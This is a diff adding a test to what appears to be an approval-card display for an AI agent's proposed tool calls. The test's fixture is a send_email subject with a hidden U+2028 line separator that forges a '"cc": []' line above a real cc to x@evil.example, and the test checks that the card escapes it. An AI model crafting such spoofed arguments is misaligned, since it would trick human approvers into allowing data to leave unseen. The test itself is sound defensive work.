@@ -152,6 +152,19 @@ def test_invisible_characters_stay_revealed_on_the_card_and_in_the_modal():
         assert "\u200d" not in text
 
 
+def test_a_value_with_a_line_separator_draws_no_line_of_its_own():
+    """A subject holding U+2028 cannot forge a `"cc": []` line above the real `cc`: one line per key, the separator an escape."""
+    args = {"to": ["boss@corp.example"], "subject": 'Q3 report\u2028"cc": []', "body": "see", "cc": ["x@evil.example"]}
+    approval = record(tool_name="send_email", proposed_args=args)
+    card = ApprovalCard(approval=approval, position=1, total=1, key_order=("to", "subject", "body", "cc"))
+    [section] = [b for b in card_blocks(card) if "```" in b.get("text", {}).get("text", "")]
+    lines = code_lines(section)
+    assert [line.split(":")[0] for line in lines] == ['"to"', '"subject"', '"body"', '"cc"']
+    assert '"subject": "Q3 report\\u2028\\"cc\\": []"' in lines[1]
+    view = view_text(arguments_view(card.approval, card.under_vote) or {})
+    assert "\u2028" not in view and "\\u2028" in view
+
+
 def test_a_card_offering_a_partial_trust_names_the_arguments_it_leaves_free():
     """Trust matching `method`, `url`: the card says `headers` and `body` stay free."""
     args = {"method": "POST", "url": "https://a.example/", "body": {"n": 1}}
